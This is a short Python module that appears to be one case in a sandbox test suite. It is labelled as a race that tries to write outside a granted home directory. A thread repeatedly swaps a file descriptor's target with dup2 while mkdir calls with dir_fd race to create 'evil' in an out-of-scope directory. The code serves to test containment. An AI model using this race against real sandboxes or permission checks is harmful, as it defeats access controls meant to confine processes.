"""A descriptor's number that stands for another directory."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import threading
import time

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    os.mkdir(HOME + "/free")
    free = os.open(HOME + "/free", os.O_PATH)
    out = os.open(payload.ROOT + "/out", os.O_PATH)
    fd = os.dup(free)
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            os.dup2(free, fd)
            os.dup2(out, fd)

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            os.mkdir("evil", dir_fd=fd)
        except OSError:
            pass
    thread.join()
